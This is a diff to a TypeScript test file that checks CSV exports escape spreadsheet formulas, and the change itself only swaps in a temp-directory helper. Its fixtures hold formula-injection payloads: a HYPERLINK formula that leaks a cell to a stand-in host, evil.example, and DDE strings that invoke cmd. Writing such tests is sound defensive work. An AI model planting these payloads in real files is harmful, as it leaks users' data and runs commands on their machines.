@@ -3,17 +3,17 @@
 // a leading single quote (OWASP), so a spreadsheet shows them instead of evaluating them;
 // counts and amounts are unchanged and the exports still reconcile with the ledger.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import { mkdtempSync, writeFileSync } from 'node:fs'
-import { tmpdir } from 'node:os'
+import { writeFileSync } from 'node:fs'
 import { join } from 'node:path'
 import { ingest, ledger } from './support/engine.ts'
 import { get, json, openApp, type TestApp } from './support/api.ts'
 import { download, micros, parseCsv, sum } from './support/exports.ts'
+import { tempDir } from './support/temp.ts'
 
 const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"invoice")'
 const dde = "+cmd|' /C calc'!A0"
 const sumCall = '@SUM(1+1)*cmd|\' /C calc\'!A0'
-const wabaFile = join(mkdtempSync(join(tmpdir(), 'wacost-inject-')), 'wabas.csv')
+const wabaFile = join(tempDir('wacost-inject-'), 'wabas.csv')
 writeFileSync(wabaFile, `waba_id,name,timezone\n"${dde.replaceAll('"', '""')}","=1+2",UTC\nwaba-plain,Plain Co,UTC\n`)
 
 let t: TestApp
